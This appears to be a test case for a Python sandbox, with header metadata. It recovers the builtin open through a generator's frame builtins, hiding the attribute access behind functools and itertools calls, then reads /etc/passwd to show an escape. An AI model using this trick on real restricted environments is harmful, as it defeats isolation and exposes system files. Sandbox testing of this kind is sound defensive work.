# tries: a reader made of two, consumed in a library's frame
# class: lazy
# stops: 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import collections
import functools
import itertools

frames = collections.UserList(itertools.starmap(
    functools.partial(functools.reduce, getattr),
    [(["gi_frame", "f_builtins"], (x for x in ()))]))
use(frames[0]["open"])
